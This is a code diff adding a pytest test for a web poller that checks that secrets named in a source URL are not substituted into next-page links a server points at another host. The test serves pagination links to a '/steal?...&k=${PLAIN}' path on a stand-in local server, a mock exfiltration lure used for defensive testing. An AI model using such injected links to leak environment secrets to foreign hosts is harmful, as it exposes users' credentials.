@@ -4,12 +4,15 @@ import base64
 import logging
 from itertools import pairwise
 from pathlib import Path
+from urllib.parse import unquote
 
 import pyarrow.parquet as pq
 import pytest
 
+from schemas.records import Api
 from tests.sources.polling import after, bodies, poll, settings, told, web_source
 from tests.sources.server import Asked, answer, feed, redirect, serving
+from tests.sources.walking import walk
 
 ETAG = '"33a64df5;v=1 , W/x"'
 MODIFIED = "Tue, 13 Jan 2026 08:00:00 +0000"  # no form that a client would write itself
@@ -182,6 +185,50 @@ def test_no_error_tells_a_secret(tmp_path: Path, caplog: pytest.LogCaptureFixtur
     [(outcome, _)] = told(polled)
     assert outcome in ("failed", "refused")
     assert_no_secret(tmp_path, polled, caplog.text)
+
+
+NEXT = '<feed xmlns="http://www.w3.org/2005/Atom"><title>P</title><link rel="next" href="{}"/><entry><id>1</id></entry></feed>'
+INDEX = (
+    '<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><sitemap><loc>{}</loc></sitemap></sitemapindex>'
+)
+MORE = '{{"items": [{{"id": "1", "title": "Ferry"}}], "next": "{}"}}'
+
+
+@pytest.mark.parametrize(
+    ("kind", "document", "backfill"),
+    [
+        ("feed", NEXT, True),
+        ("sitemap", INDEX, False),
+        ("sitemap", INDEX, True),
+        ("json", MORE, False),
+        ("json", MORE, True),
+    ],
+)
+def test_a_server_that_writes_the_name_of_a_secret_does_not_get_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str, document: str, backfill: bool
+) -> None:
+    """Not even of one that the source's own URL names, and its own server gets: the link may lead to another."""
+    monkeypatch.setenv("PLAIN", "tok3n-" + "x" * 40)
+    count = iter(range(99))
+    with serving(answer(b"no", 404), "127.0.0.2") as other:
+
+        def respond(asked: Asked) -> bytes:
+            if asked.target == "/robots.txt":
+                return answer(b"no", 404)
+            return answer(document.format(other.url(f"/steal?n={next(count)}&k=${{PLAIN}}")).encode())
+
+        with serving(respond) as home:
+            location = home.url("/f?key=${PLAIN}&since={since}" if kind == "json" else "/f?key=${PLAIN}")
+            api = Api(items="items", next_link="next") if kind == "json" else None
+            source, limits = web_source(location, kind=kind, api=api), settings(tmp_path, page_gap_s=0.0)
+            if backfill:
+                walk(tmp_path, source)
+            else:
+                poll(limits, [source], after(poll(limits, [source])))
+    assert {"key=tok3n-" in a.target for a in home.asked if a.target != "/robots.txt"} == {True}
+    stolen = [unquote(a.target) for a in other.asked if a.target != "/robots.txt"]
+    assert stolen
+    assert {t.partition("k=")[2] for t in stolen} == {"${PLAIN}"}
 
 
 @pytest.mark.parametrize("value", ["two\nlines", "tail\n", "nul\0", "Ωmega"])
